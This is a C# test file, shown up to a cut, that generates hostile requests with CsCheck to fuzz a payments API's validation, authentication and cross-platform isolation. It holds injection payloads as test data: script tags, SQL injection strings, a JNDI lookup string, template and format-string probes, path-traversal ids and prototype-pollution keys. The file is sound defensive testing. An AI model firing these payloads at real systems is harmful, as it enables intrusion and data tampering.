using System.Globalization;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Nodes;
using CsCheck;
using Truust.Api.Tests.Infrastructure;

namespace Truust.Api.Tests.Reliability;

/// <summary>Who a hostile request claims to be.</summary>
public enum Credentials
{
    PlatformKey,
    OperatorKey,
    OperatorActingAsPlatform,
    OperatorActingAsNobody,
    NoKey,
    WrongKey,
}

/// <summary>
/// One thing wrong or odd about a request. <paramref name="MustRefuse"/>: this alone obliges the API to refuse the
/// request (a negative amount, an unknown field); otherwise the request may still be legitimate (an emoji in a name).
/// </summary>
public sealed record Attack(string Description, bool MustRefuse)
{
    public override string ToString() => MustRefuse ? Description : $"({Description})";
}

/// <summary>A generated request, printable so that a failure shows exactly what was sent.</summary>
public sealed record HostileRequest(
    string Operation,
    string Method,
    string Url,
    Credentials Credentials,
    IReadOnlyList<KeyValuePair<string, string>> Headers,
    string? ContentType,
    byte[]? Body,
    IReadOnlyList<Attack> Attacks
)
{
    public bool IsRead => Method == "GET";

    /// <summary>Whether any attack obliges the API to refuse: then only a 4xx is right.</summary>
    public bool MustBeRefused => Attacks.Any(a => a.MustRefuse);

    public HttpRequestMessage ToMessage()
    {
        var message = new HttpRequestMessage(new HttpMethod(Method), Url);
        foreach (var (name, value) in Headers)
        {
            message.Headers.TryAddWithoutValidation(name, value);
        }

        if (Body is not null)
        {
            message.Content = new ByteArrayContent(Body);
            if (ContentType is not null)
            {
                message.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
            }
        }

        return message;
    }

    public override string ToString()
    {
        var text = new StringBuilder($"{Method} {Shorten(Url, 300)} as {Credentials}");
        foreach (var (name, value) in Headers.Where(h => h.Key != "Authorization"))
        {
            text.Append($", {name}: {Shorten(value, 60)}");
        }

        if (Body is not null)
        {
            text.Append($", {ContentType ?? "no content type"}: {Shorten(Encoding.UTF8.GetString(Body), 400)}");
        }

        return text.Append($" [{string.Join("; ", Attacks)}]").ToString();
    }

    private static string Shorten(string text, int max)
    {
        var escaped = JsonSerializer.Serialize(text, PrintOptions)[1..^1];
        return escaped.Length <= max ? escaped : $"{escaped[..max]}… ({text.Length} chars)";
    }

    private static readonly JsonSerializerOptions PrintOptions = new()
    {
        Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
    };
}

/// <summary>
/// CsCheck generators of hostile requests for each operation of the OpenAPI document: malformed JSON, wrong JSON
/// types, negative, zero and huge amounts, long strings, odd Unicode, unknown and missing fields, arrays for
/// objects, deep nesting, unknown and foreign ids, odd path parameters, bad query parameters, wrong content types,
/// empty bodies and every kind of caller. Values that are not attacks come from <see cref="HostileWorld"/>, so a
/// request that survives its attacks reaches real objects.
/// </summary>
public sealed class HostileRequests(HostileWorld world, bool controlCharactersAreRefused)
{
    private const string LoneSurrogate = "@@LONE_SURROGATE@@";
    private const string InvalidUtf8 = "@@INVALID_UTF8@@";
    private static readonly Attack? NoAttack = null;

    private const string UnknownSuffix = "0000000000000000000000000000";

    private static readonly JsonSerializerOptions WriteOptions = new()
    {
        Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
    };

    /// <summary>Text a careful API stores or refuses, but never chokes on.</summary>
    private static readonly string[] OddText =
    [
        "",
        "   ",
        "\u202Eevil\u202C.exe",
        "Z\u0351\u0352\u0353\u0354algo",
        "e\u0301\u0301\u0301",
        "\uFEFFbom",
        "\u200B\u200C\u200D",
        "😀🇪🇸👩‍👩‍👧",
        "İıſKÅ",
        "１２３",
        "\uFFFF\uFFFE",
        "\u2028\u2029",
        "tab\tnew\r\nline",
        "<script>alert(1)</script>",
        "'; DROP TABLE orders; --",
        "${jndi:ldap://example.com/a}",
        "{{7*7}}",
        "%s%n%x",
        "\\\"\\u0000",
        "𝕆𝕣𝕕𝕖𝕣",
    ];

    /// <summary>C0 controls other than tab and line breaks, and DEL: the 'edges' branch refuses them.</summary>
    private static readonly string[] ControlText = ["\0", "a\0b", "\u0001", "\u001b[2J", "\u007f", "\b"];

    private static readonly string[] OddIds =
    [
        "..",
        "../../v1/platform",
        "%00",
        "%2e%2e%2f",
        "' OR '1'='1",
        "*",
        "null",
        "-1",
        "0",
        "1e30",
        "😀",
        "\u202Eord",
        "a;b",
        "CON",
        "ord_%",
        "𝕆𝕣𝕕",
    ];

    private readonly string _year = (world.Now.Year + 3).ToString(CultureInfo.InvariantCulture);

    /// <summary>One request per operation, in the document's order: a batch covers every operation.</summary>
    public Gen<HostileRequest[]> Batch(IReadOnlyList<OperationShape> operations) =>
        Sequence(operations.Select(For)).Select(requests => requests.ToArray());

    /// <summary>
    /// A hostile request for <paramref name="operation"/>. A request that writes always carries an attack that
    /// obliges the API to refuse it, so every write must answer 4xx and change nothing; a read may be legitimate.
    /// </summary>
    public Gen<HostileRequest> For(OperationShape operation) =>
        (
            from caller in Caller()
            from path in Sequence(operation.PathParameters.Select(p => PathValue(operation, p, caller.Credentials)))
            from query in Query(operation)
            from body in Body(operation)
            from headers in ExtraHeaders(operation)
            select Build(operation, caller, path, query, body, headers)
        ).Where(r => r.IsRead || r.MustBeRefused);

    private HostileRequest Build(
        OperationShape operation,
        (Credentials Credentials, List<KeyValuePair<string, string>> Headers, Attack? Attack) caller,
        List<(string Name, string Value, Attack? Attack)> path,
        List<(string Pair, Attack? Attack)> query,
        (string? ContentType, byte[]? Body, List<Attack> Attacks) body,
        List<(KeyValuePair<string, string> Header, Attack Attack)> headers
    )
    {
        var url = operation.Template;
        foreach (var (name, value, _) in path)
        {
            url = url.Replace("{" + name + "}", Uri.EscapeDataString(value), StringComparison.Ordinal);
        }

        var pairs = query.Select(q => q.Pair).Where(p => p.Length > 0).ToList();
        if (pairs.Count > 0)
        {
            url += "?" + string.Join("&", pairs);
        }

        var attacks = new List<Attack>();
        attacks.AddRange(caller.Attack is null ? [] : [caller.Attack]);
        attacks.AddRange(path.Select(p => p.Attack).OfType<Attack>());
        attacks.AddRange(query.Select(q => q.Attack).OfType<Attack>());
        attacks.AddRange(body.Attacks);
        attacks.AddRange(headers.Select(h => h.Attack));
        return new HostileRequest(
            operation.Name,
            operation.Method,
            url,
            caller.Credentials,
            [.. caller.Headers, .. headers.Select(h => h.Header)],
            body.ContentType,
            body.Body,
            attacks
        );
    }

    // ---- Callers ----------------------------------------------------------------------------------------------

    private Gen<(Credentials Credentials, List<KeyValuePair<string, string>> Headers, Attack? Attack)> Caller()
    {
        static KeyValuePair<string, string> Header(string name, string value) => new(name, value);
        var platform = Header("Authorization", "Bearer " + world.Platform.Secret);
        var operatorKey = Header("Authorization", "Bearer " + TruustApiFactory.OperatorKey);
        var wrongKeys = new (string Label, string Value)[]
        {
            ("an unknown key", "Bearer sk_test_" + UnknownSuffix),
            ("a 5,000-character key", "Bearer " + new string('k', 5_000)),
            ("Basic credentials", "Basic dXNlcjpwYXNzd29yZA=="),
            ("'Bearer' without a key", "Bearer"),
            ("the key without 'Bearer'", world.Platform.Secret),
            ("the key in upper case", "Bearer " + world.Platform.Secret.ToUpperInvariant()),
            ("another scheme", "Token " + world.Platform.Secret),
        };
        return Weighted(
            (20, Gen.Const((Credentials.PlatformKey, new List<KeyValuePair<string, string>> { platform }, NoAttack))),
            (
                3,
                Gen.Const(
                    (Credentials.OperatorKey, new List<KeyValuePair<string, string>> { operatorKey }, (Attack?)null)
                )
            ),
            (
                3,
                Gen.Const(
                    (
                        Credentials.OperatorActingAsPlatform,
                        new List<KeyValuePair<string, string>>
                        {
                            operatorKey,
                            Header("Truust-Platform", world.Platform.Id),
                        },
                        (Attack?)null
                    )
                )
            ),
            (
                1,
                Pick("plat_" + UnknownSuffix, world.Other.Id + "x", new string('p', 3_000))
                    .Select(nobody =>
                        (
                            Credentials.OperatorActingAsNobody,
                            new List<KeyValuePair<string, string>> { operatorKey, Header("Truust-Platform", nobody) },
                            (Attack?)new Attack("the operator acting as an unknown platform", true)
                        )
                    )
            ),
            (
                1,
                Gen.Const(
                    (Credentials.NoKey, new List<KeyValuePair<string, string>>(), (Attack?)new Attack("no key", true))
                )
            ),
            (
                1,
                Pick(wrongKeys)
                    .Select(key =>
                        (
                            Credentials.WrongKey,
                            new List<KeyValuePair<string, string>> { Header("Authorization", key.Value) },
                            (Attack?)new Attack($"wrong key: {key.Label}", true)
                        )
                    )
            )
        );
    }

    // ---- Path parameters --------------------------------------------------------------------------------------

    private Gen<(string Name, string Value, Attack? Attack)> PathValue(
        OperationShape operation,
        FieldShape parameter,
        Credentials credentials
    )
    {
        var segments = operation.Template.Split('/');
        var index = Array.IndexOf(segments, "{" + parameter.Name + "}");
        var collection = index > 0 ? segments[index - 1] : parameter.Name;
        var name = parameter.Name;
        var unknown = Unknown(collection);
        // Another platform's object is invisible to a platform (and to the operator acting as one): a 404. Platforms
        // and their keys are the operator's to manage, whichever platform it acts as.
        var foreignMustRefuse =
            credentials is Credentials.PlatformKey
            || (credentials is Credentials.OperatorActingAsPlatform && collection is not ("platforms" or "api_keys"));
        var odd = controlCharactersAreRefused ? [.. OddIds, .. ControlText] : OddIds;
        return Weighted(
            (14, Gen.Int[0, 9].Select(i => (name, world.Pick(collection, false, i) ?? unknown, (Attack?)null))),
            (1, Gen.Const((name, unknown, (Attack?)new Attack($"unknown {collection} id", true)))),
            (
                2,
                Gen.Int[0, 9]
                    .Select(i =>
                        world.Pick(collection, true, i) is { } foreign
                            ? (
                                name,
                                foreign,
                                (Attack?)new Attack($"another platform's {collection} id", foreignMustRefuse)
                            )
                            : (name, unknown, new Attack($"unknown {collection} id", true))
                    )
            ),
            (
                3,
                OneOfGens(
                        Pick(odd),
                        Gen.Int[300, 5_000].Select(n => new string('9', n)),
                        Gen.Const((world.Pick(collection, false, 0) ?? unknown) + new string('x', 200))
                    )
                    .Select(value => (name, value, (Attack?)new Attack($"{name} = {Describe(value)}", true)))
            )
        );
    }

    private string Unknown(string collection)
    {
        var sample = world.Pick(collection, false, 0) ?? world.Pick(collection, true, 0);
        var prefix = sample is null ? collection[..3] : sample[..sample.IndexOf('_')];
        return $"{prefix}_{UnknownSuffix}";
    }

    // ---- Query parameters -------------------------------------------------------------------------------------

    private Gen<List<(string Pair, Attack? Attack)>> Query(OperationShape operation)
    {
        var parameters = operation.QueryParameters.Select(p =>
            Weighted(
                (6, Gen.Const(("", (Attack?)null))),
                (2, CleanQueryValue(operation, p).Select(v => (Pair(p.Name, v), (Attack?)null))),
                (
                    2,
                    HostileQueryValue(p)
                        .Select(h =>
                            (Pair(p.Name, h.Value), (Attack?)new Attack($"{p.Name}={Describe(h.Value)}", h.MustRefuse))
                        )
                )
            )
        );
        var junk = Weighted(
            (6, Gen.Const(("", (Attack?)null))),
            (
                1,
                Pick("foo=bar", "limit=1&limit=500", "__proto__=x", "a[b]=c", "=x", "x", "%zz=1")
                    .Select(pair => (pair, (Attack?)new Attack($"extra query '{pair}'", false)))
            )
        );
        return Sequence(parameters.Append(junk));
    }

    private static string Pair(string name, string value) => $"{name}={Uri.EscapeDataString(value)}";

    private Gen<string> CleanQueryValue(OperationShape operation, FieldShape parameter) =>
        parameter.Name switch
        {
            "limit" => Pick("1", "20", "100"),
            "starting_after" => Gen.Const(
                world.Pick(operation.Template.Split('/')[^1].Trim('{', '}'), false, 0) ?? "zzz"
            ),
            "created_gte" => Gen.Const(world.Now.AddDays(-1).ToString("O")),
            "created_lt" => Gen.Const(world.Now.AddDays(1).ToString("O")),
            "amount" => Pick("1", "1000", "1000000"),
            "currency" => Pick("EUR", "USD", "GBP"),
            "type" => Pick("order.status_changed", "payin.confirmed"),
            _ when parameter.Name.EndsWith("_id", StringComparison.Ordinal) => IdValue(parameter.Name, false),
            _ => parameter.Shape.Kind switch
            {
                ValueKind.Enum => Pick([.. parameter.Shape.EnumValues]),
                ValueKind.Integer or ValueKind.Int32 => Pick("1", "10"),
                _ => Pick("x"),
            },
        };

    private Gen<(string Value, bool MustRefuse)> HostileQueryValue(FieldShape parameter)
    {
        var refused = new List<(string, bool)>();
        var tolerated = new List<(string, bool)>();
        void Refused(params string[] values) => refused.AddRange(values.Select(v => (v, true)));
        void Tolerated(params string[] values) => tolerated.AddRange(values.Select(v => (v, false)));
        switch (parameter.Name, parameter.Shape.Kind)
        {
            case ("limit", _):
                Refused("-1", "0", "101", "1e9", "1000000000", "99999999999", "abc", "1.5");
                // Model binding reads integers with a TypeConverter, which takes hexadecimal: 0x10 is 16.
                Tolerated("", "+5", " 5", "0x10");
                break;
            case ("starting_after", _):
                Refused(new string('z', 65), new string('z', 5_000));
                Tolerated("zzz", "ord_", "' OR 1=1 --", "%", "\\", "😀");
                break;
            case ("amount", _):
                Refused(
                    "-1",
                    "0",
                    "9223372036854775807",
                    "9223372036854775808",
                    "9007199254740993",
                    "1e30",
                    "abc",
                    "1.5"
                );
                break;
            case ("currency", _):
                Refused("XXX", "EURO", new string('E', 300));
                Tolerated("", "eur");
                break;
            case (_, ValueKind.Enum):
                Refused("NOT_A_STATUS");
                Tolerated("", "published", "1", "-1", "99", string.Join(",", parameter.Shape.EnumValues.Take(2)));
                break;
            case (_, ValueKind.DateTime):
                Refused("yesterday", "2026-02-30T00:00:00Z", "1e30", "infinity");
                Tolerated("", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.9999999Z", "2026-01-01T00:00:00+14:00");
                break;
            case (_, ValueKind.Integer or ValueKind.Int32):
                Tolerated("-1", "0", "9223372036854775808", "abc");
                break;
            default:
                Tolerated("", "zzz", "' OR 1=1 --", new string('z', 5_000), "😀", "\u202E", "%00");
                break;
        }

        tolerated.AddRange(OddText.Select(t => (t, false)));
        if (controlCharactersAreRefused)
        {
            refused.AddRange(ControlText.Select(t => (t, true)));
        }

        return Pick([.. refused, .. tolerated]);
    }

    // ---- Bodies -----------------------------------------------------------------------------------------------

    private Gen<(string? ContentType, byte[]? Body, List<Attack> Attacks)> Body(OperationShape operation)
    {
        if (operation.Body is null)
        {
            // A body on an operation that reads none is ignored; sending one must not matter.
            return operation.IsRead
                ? Gen.Const<(string?, byte[]?, List<Attack>)>((null, null, []))
                : Weighted(
                    (4, Gen.Const<(string?, byte[]?, List<Attack>)>((null, null, []))),
                    (
                        1,
                        Gen.Const<(string?, byte[]?, List<Attack>)>(
                            ("application/json", "{\"amount\": -1}"u8.ToArray(), [new Attack("an unread body", false)])
                        )
                    )
                );
        }

        return from fields in Sequence(operation.Body.Fields.Select(FieldOrAbsent))
            from extra in ExtraField(operation.Body)
            from root in Root()
            from contentType in ContentType()
            select Assemble(fields, extra, root, contentType);
    }

    private (string? ContentType, byte[]? Body, List<Attack> Attacks) Assemble(
        List<(string Name, JsonNode? Value, Attack? Attack, bool Present)> fields,
        (string? Name, JsonNode? Value, Attack? Attack) extra,
        Func<string, (string? Text, Attack? Attack, bool KeepsFields)> root,
        (string? Value, bool Refusable, string Label) contentType
    )
    {
        var attacks = new List<Attack>();
        var json = new JsonObject();
        foreach (var (name, value, attack, present) in fields.Where(f => f.Present))
        {
            json[name] = Fresh(value);
            attacks.AddRange(attack is null ? [] : [attack]);
        }

        if (extra.Name is not null)
        {
            json[extra.Name] = Fresh(extra.Value);
            attacks.Add(extra.Attack!);
        }

        var (text, rootAttack, keepsFields) = root(json.ToJsonString(WriteOptions));
        if (!keepsFields)
        {
            // The fields were never sent, so their attacks oblige nothing.
            attacks.Clear();
        }

        attacks.AddRange(rootAttack is null ? [] : [rootAttack]);
        if (text is null)
        {
            return (null, null, attacks);
        }

        if (text.Contains(LoneSurrogate, StringComparison.Ordinal))
        {
            text = text.Replace(LoneSurrogate, "\\ud800", StringComparison.Ordinal);
        }

        var bytes = Encoding.UTF8.GetBytes(text);
        if (text.Contains(InvalidUtf8, StringComparison.Ordinal))
        {
            bytes = ReplaceBytes(bytes, Encoding.UTF8.GetBytes(InvalidUtf8), [0xFF, 0xFE, 0xC3, 0x28]);
        }

        if (contentType.Label.Length > 0)
        {
            attacks.Add(new Attack(contentType.Label, contentType.Refusable && bytes.Length > 0));
        }

        return (contentType.Value, bytes, attacks);
    }

    private static Gen<(string? Value, bool Refusable, string Label)> ContentType() =>
        Weighted(
            (30, Gen.Const<(string?, bool, string)>(("application/json", false, ""))),
            (1, Gen.Const<(string?, bool, string)>(("application/json; charset=utf-8", false, ""))),
            (
                1,
                Pick("application/merge-patch+json", "text/json", "application/json; charset=utf-16")
                    .Select(ct => ((string?)ct, false, $"content type {ct}"))
            ),
            (
                3,
                Pick(
                        "text/plain",
                        "application/xml",
                        "application/x-www-form-urlencoded",
                        "multipart/form-data; boundary=x",
                        "application/octet-stream",
                        "application/jsonx",
                        null
                    )
                    .Select(ct => (ct, true, $"content type {ct ?? "missing"}"))
            )
        );

    /// <summary>What happens to the serialised object: sent as is, wrapped, nested, broken or left out.</summary>
    private static Gen<Func<string, (string? Text, Attack? Attack, bool KeepsFields)>> Root()
    {
        static Func<string, (string?, Attack?, bool)> Refused(string label, Func<string, string> change) =>
            json => (change(json), new Attack(label, true), true);
        static Func<string, (string?, Attack?, bool)> Tolerated(string label, Func<string, string?> change) =>
            json => (change(json), new Attack(label, false), true);
        static Func<string, (string?, Attack?, bool)> Dropped(string label, string? text) =>
            _ => (text, new Attack(label, false), false);
        return Weighted(
            (40, Gen.Const<Func<string, (string?, Attack?, bool)>>(json => (json, null, true))),
            (
                2,
                Pick(
                    Refused("an array for the object", json => $"[{json}]"),
                    Refused("an empty array for the object", _ => "[]"),
                    Refused("a string for the object", json => JsonSerializer.Serialize(json)),
                    Refused("a number for the object", _ => "1050"),
                    Refused("true for the object", _ => "true")
                )
            ),
            (
                2,
                Pick(
                    Refused("JSON nested 10,000 deep", _ => new string('[', 10_000) + new string(']', 10_000)),
                    Refused(
                        "an object nested 100 deep",
                        json => string.Concat(Enumerable.Repeat("{\"a\":", 100)) + json + new string('}', 100)
                    ),
                    Refused(
                        "a field nested 50 deep",
                        _ => "{\"metadata\":" + new string('[', 50) + new string(']', 50) + "}"
                    )
                )
            ),
            (
                3,
                Pick(
                    Refused("truncated JSON", json => json[..(json.Length / 2)]),
                    Refused("a trailing comma", json => json.Length > 2 ? json[..^1] + ",}" : "{,}"),
                    Refused("single quotes", json => json.Replace('"', '\'')),
                    Refused("'=' for ':'", json => json.Contains(':') ? json.Replace(':', '=') : "{\"a\"=1}"),
                    Refused("a comment", json => "// hi\n" + json),
                    Refused("garbage after the object", json => json + " trailing"),
                    Refused("NaN", _ => "{\"amount\": NaN}"),
                    Refused("a leading zero", _ => "{\"amount\": 0100}"),
                    Refused("an unquoted name", _ => "{amount: 1}"),
                    Refused("two objects", json => json + json),
                    Refused("an unterminated string", _ => "{\"name\": \"abc")
                )
            ),
            (
                2,
                Pick(
                    Dropped("an empty body", ""),
                    Dropped("a JSON null", "null"),
                    Dropped("whitespace only", " \n\t "),
                    Tolerated("a byte order mark", json => "\uFEFF" + json),
                    Tolerated("a duplicate field", json => json.Length > 2 ? "{\"amount\":-1," + json[1..] : json)
                )
            ),
            (1, Gen.Const(Dropped("no body at all", null)))
        );
    }

    private Gen<(string? Name, JsonNode? Value, Attack? Attack)> ExtraField(ValueShape body)
    {
        var first = body.Fields.FirstOrDefault()?.Name ?? "name";
        return Weighted(
            (8, Gen.Const<(string?, JsonNode?, Attack?)>((null, null, null))),
            (
                2,
                Pick("zzz_unknown", "__proto__", "$type", "$id", "$ref", "constructor", "amount_minor", "ämount")
                    .Select(name =>
                        (
                            (string?)name,
                            (JsonNode?)JsonValue.Create(1),
                            (Attack?)new Attack($"unknown field '{name}'", true)
                        )
                    )
            ),
            (
                1,
                Gen.Const<(string?, JsonNode?, Attack?)>(
                    (
                        first.ToUpperInvariant(),
                        JsonValue.Create(-1),
                        new Attack($"field {first.ToUpperInvariant()}", false)
                    )
                )
            )
        );
    }

    // ---- Field values -----------------------------------------------------------------------------------------

    private Gen<(string Name, JsonNode? Value, Attack? Attack, bool Present)> FieldOrAbsent(FieldShape field) =>
        Weighted(
            (2, Gen.Const((field.Name, (JsonNode?)null, (Attack?)new Attack($"no {field.Name}", false), false))),
            (9, Clean(field).Select(v => (field.Name, v, (Attack?)null, true))),
            (1, Gen.Const((field.Name, (JsonNode?)null, (Attack?)new Attack($"{field.Name}: null", false), true))),
            (3, Hostile(field).Select(h => (field.Name, h.Value, (Attack?)h.Attack, true)))
        );

    /// <summary>A plausible value, from the world where the field names an object.</summary>
    private Gen<JsonNode?> Clean(FieldShape field)
    {
        var name = field.Name;
        Gen<JsonNode?> Text(params string[] values) => Pick(values).Select(v => (JsonNode?)JsonValue.Create(v));
        Gen<JsonNode?> Number(params long[] values) => Pick(values).Select(v => (JsonNode?)JsonValue.Create(v));
        if (name.EndsWith("_id", StringComparison.Ordinal) && field.Shape.Kind == ValueKind.String)
        {
            return IdValue(name, false).Select(v => (JsonNode?)JsonValue.Create(v));
        }

        switch (name)
        {
            case "currency":
                return Text("EUR");
            case "email":
                return Text("hostile@example.com");
            case "iban" or "sender_iban":
                return Text(TestIbans.Germany, TestIbans.Spain);
            case "bic":
                return Text("CAIXESBBXXX");
            case "url" or "buyer_confirmed_url" or "buyer_denied_url" or "seller_confirmed_url" or "seller_denied_url":
                return Text("https://platform.example.com/return");
            case "number":
                return Text("4242424242424242", "4000000000000002");
            case "cvc":
                return Text("123");
            case "exp_month":
                return Number(12);
            case "exp_year":
                return Number(long.Parse(_year, CultureInfo.InvariantCulture));
            case "reference":
                return Text("TRU-HOSTILE");
            case "event_types":
                return Gen.Const<JsonNode?>(new JsonArray("*"));
            case "amount" or "target_amount" or "hard_cap" or "max_contribution":
                return Number(100, 1_000, 100_000);
            case "min_contribution":
                return Number(100);
            case "fee_percent_bp" or "percent_bp":
                return Number(0, 100, 250);
            case "annual_interest_bp":
                return Number(500);
            case "term_months":
                return Number(12);
            case "fee_amount" or "fee_fixed":
                return Number(0, 50);
            case "deadline":
                return Text(world.Now.AddDays(30).ToString("O"));
            case "metadata":
                return Gen.Const<JsonNode?>(new JsonObject { ["k"] = "v" });
        }

        var shape = field.Shape;
        return shape.Kind switch
        {
            ValueKind.String => Text("Hostile input"),
            ValueKind.Integer or ValueKind.Int32 or ValueKind.Number => Number(1),
            ValueKind.Boolean => Gen.Bool.Select(b => (JsonNode?)JsonValue.Create(b)),
            ValueKind.Enum => Text([.. shape.EnumValues]),
            ValueKind.DateTime => Text(world.Now.AddDays(1).ToString("O")),
            ValueKind.Array => Clean(new FieldShape(Singular(name), shape.Items!))
                .Select(i => (JsonNode?)new JsonArray(Fresh(i))),
            ValueKind.Object => Sequence(shape.Fields.Select(f => Clean(f).Select(v => Member(f.Name, v))))
                .Select(pairs =>
                    (JsonNode?)new JsonObject(pairs.Select(p => KeyValuePair.Create(p.Key, Fresh(p.Value))))
                ),
            ValueKind.Map => Gen.Const<JsonNode?>(new JsonObject { ["k"] = "v" }),
            _ => Gen.Const((JsonNode?)null),
        };
    }

    private static KeyValuePair<string, JsonNode?> Member(string name, JsonNode? value) => new(name, value);

    private static string Singular(string name) => name.EndsWith('s') ? name[..^1] : name;

    /// <summary>An id for a field or query parameter named <paramref name="name"/>.</summary>
    private Gen<string> IdValue(string name, bool foreign)
    {
        var collection = name switch
        {
            "buyer_id" or "seller_id" or "customer_id" or "owner_id" or "contributor_id" => "customers",
            "wallet_id" or "from_wallet_id" or "to_wallet_id" => "wallets",
            "order_id" or "object_id" => "orders",
            "order_group_id" => "order_groups",
            "bankaccount_id" or "payout_bankaccount_id" => "bank_accounts",
            "endpoint_id" => "webhook_endpoints",
            _ => "customers",
        };
        return Gen.Int[0, 9].Select(i => world.Pick(collection, foreign, i) ?? Unknown(collection));
    }

    /// <summary>A value that is wrong or odd for the field, and whether it alone obliges the API to refuse.</summary>
    private Gen<(JsonNode? Value, Attack Attack)> Hostile(FieldShape field)
    {
        var name = field.Name;
        var shape = field.Shape;
        var options = new List<Gen<(JsonNode?, Attack)>>();
        void Add(JsonNode? value, string label, bool mustRefuse) =>
            options.Add(Gen.Const((value, new Attack($"{name}: {label}", mustRefuse))));
        void WrongTypes(params JsonNode?[] values)
        {
            foreach (var value in values)
            {
                Add(value, $"wrong type {value?.ToJsonString(WriteOptions) ?? "null"}", true);
            }
        }

        switch (shape.Kind)
        {
            case ValueKind.String:
                WrongTypes(12, true, new JsonObject(), new JsonArray(), JsonNode.Parse("1.5"));
                Add(new string('a', 10_001), "10,001 characters", true);
                Add(string.Concat(Enumerable.Repeat("😀", 5_000)), "5,000 emoji", true);
                Add(LoneSurrogate, "a lone surrogate", true);
                Add(InvalidUtf8, "invalid UTF-8", true);
                foreach (var text in OddText)
                {
                    Add(text, Describe(text), false);
                }

                if (controlCharactersAreRefused)
                {
                    foreach (var text in ControlText)
                    {
                        Add(text, Describe(text), true);
                    }
                }

                if (name.EndsWith("_id", StringComparison.Ordinal))
                {
                    options.Add(
                        IdValue(name, true)
                            .Select(id => ((JsonNode?)id, new Attack($"{name}: another platform's", false)))
                    );
                    Add("cus_" + UnknownSuffix, "an unknown id", false);
                    Add("wal_" + UnknownSuffix, "an unknown id of another kind", false);
                }

                break;
            case ValueKind.Integer or ValueKind.Int32 or ValueKind.Number:
                WrongTypes(
                    "12",
                    true,
                    new JsonObject(),
                    new JsonArray(),
                    "",
                    JsonNode.Parse("1.5"),
                    JsonNode.Parse("1E2")
                );
                Add(JsonNode.Parse("1e30"), "1e30", true);
                Add(-1, "-1", true);
                Add(long.MinValue, "long.MinValue", true);
                Add(long.MaxValue, "long.MaxValue", true);
                Add(JsonNode.Parse("9007199254740993"), "2^53 + 1", true);
                Add(JsonNode.Parse("9223372036854775808"), "long.MaxValue + 1", true);
                Add(2_147_483_648L, "int.MaxValue + 1", shape.Kind == ValueKind.Int32);
                Add(0, "0", name is "amount" or "target_amount");
                break;
            case ValueKind.Boolean:
                WrongTypes("true", 1, "yes", new JsonObject());
                break;
            case ValueKind.Enum:
                WrongTypes("NOT_A_VALUE", 1, "", new JsonArray());
                Add(shape.EnumValues[0].ToLowerInvariant(), "lower case", false);
                Add(string.Join(", ", shape.EnumValues.Take(2)), "two values", false);
                Add(" " + shape.EnumValues[0], "a leading space", false);
                break;
            case ValueKind.DateTime:
                WrongTypes("yesterday", 12, "2026-02-30T00:00:00Z", "");
                foreach (
                    var extreme in new[]
                    {
                        "0001-01-01T00:00:00Z",
                        "9999-12-31T23:59:59.9999999Z",
                        "2026-01-01T00:00:00-12:00",
                        "2026-01-01",
                    }
                )
                {
                    Add(extreme, extreme, false);
                }

                break;
            case ValueKind.Array:
                WrongTypes(new JsonObject(), "x", 1, new JsonArray((JsonNode?)null));
                if (shape.Items!.Kind is ValueKind.Object)
                {
                    WrongTypes(new JsonArray(1));
                    var item = new FieldShape(Singular(name), shape.Items);
                    options.Add(
                        from value in Hostile(item)
                        select (
                            (JsonNode?)new JsonArray(Fresh(value.Value)),
                            value.Attack with
                            {
                                Description = $"{name}[0].{value.Attack.Description}",
                            }
                        )
                    );
                    options.Add(
                        from items in Clean(item).Array[1_001]
                        select (
                            (JsonNode?)new JsonArray([.. items.Select(Fresh)]),
                            new Attack($"{name}: 1,001 items", true)
                        )
                    );
                }

                Add(new JsonArray(), "empty", false);
                break;
            case ValueKind.Object:
                WrongTypes(new JsonArray(), "x", 1);
                options.AddRange(
                    shape.Fields.Select(f =>
                        from value in Hostile(f)
                        select (
                            (JsonNode?)new JsonObject { [f.Name] = Fresh(value.Value) },
                            value.Attack with
                            {
                                Description = $"{name}.{value.Attack.Description}",
                            }
                        )
                    )
                );
                break;
            case ValueKind.Map:
                WrongTypes(
                    new JsonArray(),
                    "x",
                    1,
                    new JsonObject { ["k"] = 1 },
                    new JsonObject { ["k"] = new JsonObject() }
                );
                Add(new JsonObject { ["k"] = null }, "a null value", true);
                Add(
                    new JsonObject(Enumerable.Range(0, 51).Select(i => KeyValuePair.Create($"k{i}", (JsonNode?)"v"))),
                    "51 keys",
                    true
                );
                Add(new JsonObject { [new string('k', 41)] = "v" }, "a 41-character key", true);
                Add(new JsonObject { ["k"] = new string('v', 501) }, "a 501-character value", true);
                Add(new JsonObject { [""] = "v" }, "an empty key", true);
                Add(new JsonObject { ["😀\u202E"] = "İ" }, "odd Unicode", false);
                if (controlCharactersAreRefused)
                {
                    Add(new JsonObject { ["k"] = "\0" }, "a NUL value", true);
                    Add(new JsonObject { ["\0"] = "v" }, "a NUL key", true);
                }

                break;
        }

        return OneOfGens([.. options]);
    }

    // ---- Headers ----------------------------------------------------------------------------------------------

    private static Gen<List<(KeyValuePair<string, string> Header, Attack Attack)>> ExtraHeaders(
        OperationShape operation
    )
    {
        var none = Gen.Const(((KeyValuePair<string, string>, Attack)?)null);
        var accept = Weighted(
            (8, none),
            (
                1,
                Pick("application/xml", "text/html", "*/*;q=0", "image/png")
                    .Select(a => (KeyValuePair.Create("Accept", a), new Attack($"Accept: {a}", false)))
                    .Select(h => ((KeyValuePair<string, string>, Attack)?)h)
            )
        );
        var idempotency =
            operation.Method != "POST"
                ? none
                : Weighted(
                    (30, none),
                    (
                        1,
                        Gen.Const<(KeyValuePair<string, string>, Attack)?>(
                            (
                                KeyValuePair.Create("Idempotency-Key", new string('i', 256)),
                                new Attack("a 256-character Idempotency-Key", true)
                            )
                        )
                    )
                );
        return Gen.Select(
            accept,
            idempotency,
            (a, i) => new[] { a, i }.OfType<(KeyValuePair<string, string>, Attack)>().ToList()
        );
    }

    // ---- Helpers ----------------------------------------------------------------------------------------------

    // CsCheck overloads OneOf and Frequency for constants and for generators; these names say which is meant.
    private static Gen<T> Pick<T>(params T[] values) => Gen.OneOf<T>(values);

    private static Gen<T> OneOfGens<T>(params Gen<T>[] gens) => Gen.OneOf<T>([.. gens]);

    private static Gen<T> Weighted<T>(params (int Weight, Gen<T> Gen)[] gens) =>
